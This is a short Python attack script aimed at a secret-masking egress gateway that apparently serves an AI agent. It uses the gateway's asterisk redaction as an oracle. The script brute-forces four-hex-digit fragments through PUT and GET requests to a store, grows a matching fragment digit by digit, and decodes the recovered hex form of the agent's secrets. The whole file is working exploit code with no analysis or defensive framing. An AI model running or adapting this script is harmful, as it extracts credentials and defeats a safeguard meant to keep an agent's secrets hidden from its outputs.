import http.client, random, sys, time, os
c = http.client.HTTPConnection('egress', 9199); n = 0
def starred(text):
    "4 bytes or more; true when the gateway knows them as a part of a secret"
    global n; n += 2
    c.request('PUT', '/store/o', body=text); r = c.getresponse(); r.read(); assert r.status == 204, r.status
    c.request('GET', '/store/o', headers={'Range': 'bytes=0-'}); r = c.getresponse(); b = r.read().decode()
    assert r.status in (200, 206), r.status
    return b == '*' * len(text)
t0 = time.time(); H = '0123456789abcdef'; rnd = random.Random(7)
# No knowledge at all: any four hexadecimal digits of the hexadecimal form of any secret of this agent.
seed = None
order = list(range(65536)); rnd.shuffle(order)
budget = int(os.environ.get('TRIES', '6000'))
for i in order[:budget]:
    g = '%04x' % i
    if starred(g): seed = g; break
if seed is None: print('RECOVERED: nothing after', n, 'requests'); sys.exit()
s = seed
def grow(s, left):
    while True:
        for h in H:
            t = h + s if left else s + h
            if starred(t): s = t; break
        else: return s
s = grow(s, False); s = grow(s, True)
# the ends: the whole form is no part of itself; the last digits are tried by the reader
best = s
cands = [best, '0'+best] 
out = set()
for k in (0, 1):
    h = best[k:]
    h = h[:len(h) // 2 * 2]
    try:
        x = bytes.fromhex(h).decode('ascii')
        if x.isprintable(): out.add(x)
    except Exception: pass
print('RECOVERED:', sorted(out), 'requests', n, 'seconds %.1f' % (time.time() - t0))
